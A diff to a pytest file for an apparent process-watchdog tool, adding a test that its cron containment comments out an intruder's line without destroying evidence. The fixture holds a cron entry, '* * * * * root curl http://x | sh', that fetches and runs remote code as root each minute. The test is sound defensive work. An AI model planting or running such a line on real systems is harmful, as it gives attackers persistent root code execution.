@@ -7,14 +7,16 @@ from dataclasses import dataclass, field
 from typing import Any, cast
 
 import pytest
-from preflight.host_world import LINK, NOW, EngineWith, FakeHost
-from support.builders import make_facts, make_process, make_service
+from preflight.host_world import LINK, NOW, EngineWith, FakeFiles, FakeHost
+from support.builders import make_cron_job, make_facts, make_process, make_service
 
 from runaway_watchdog import owners
 from runaway_watchdog.explain import cause, condition, leftbehind, named, signs, ways
 from runaway_watchdog.model.casefile import History, LeftBehind, Sign, suspicious
 from runaway_watchdog.model.plan import Plan
 from runaway_watchdog.model.process import Facts, Process
+from runaway_watchdog.owners.cron import containment as cron
+from runaway_watchdog.owners.cron.details import TableLine
 from runaway_watchdog.owners.interface import Read
 from runaway_watchdog.owners.unmanaged import ORPHAN
 from runaway_watchdog.render.shortage import sentence
@@ -274,6 +276,23 @@ def test_only_what_the_host_lacks_is_called_a_shortage(host: FakeHost, kind: str
     found = named.short_of(host.world)
     assert (found and found.kind) == kind
     assert ("waits for its disk" in sentence(found)) is (kind == "io")
+
+
+def test_the_line_that_starts_an_intruder_again_is_held() -> None:
+    """Whatever its script does; what would end the evidence is not done, and no line is commented out twice."""
+    table = TableLine("/etc/cron.d/x", 1, "root", "* * * * * root curl http://x | sh\n", of_user=False)
+    job, facts = make_cron_job("line 1 of /etc/cron.d/x", table), make_facts(make_process(60))
+    contained = cron.contain(job.details, job.name, facts)
+    assert contained is not None
+    found = (Sign("posing", "a", "b"), Sign("program-file", "c", "d"))
+    download = Sign("download", "e", "f", path=table.path)
+    world = FakeHost(FakeFiles({table.path: table.text})).world
+    for signs_seen in (found, (*found, download)):
+        plan = Plan(contained.goal, contained.steps, ())
+        steps = ways.adapted(plan, owners.Layer(job, facts), None, None, signs_seen, world).steps
+        assert [step.phase for step in steps[:2]] == ["relieve", "save"]
+        (held,) = steps[2:]
+        assert "sed '1s/^/# held: /'" in held.command
 
 
 # --- signs -------------------------------------------------------------------------------------------------------
